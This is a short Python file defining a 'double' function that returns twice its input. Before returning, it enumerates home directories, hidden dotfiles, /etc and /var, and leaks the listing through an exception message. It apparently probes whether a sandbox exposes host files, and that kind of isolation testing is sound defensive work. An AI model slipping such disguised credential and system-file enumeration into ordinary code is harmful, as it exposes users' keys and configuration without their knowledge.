"""Read home folders: keys, histories, configuration."""

import glob
import os


def double(x):
    found = []
    for folder in ("/root", "/home", "/Users", os.path.expanduser("~/.."), "/etc", "/var", "/work"):
        try:
            found += os.listdir(folder)
        except OSError:
            continue
    found += glob.glob("/home/*/.*") + glob.glob("/etc/*")
    if any(name not in ("ld.so.cache", "/etc/ld.so.cache") for name in found):
        raise RuntimeError(str(found))
    return 2 * x
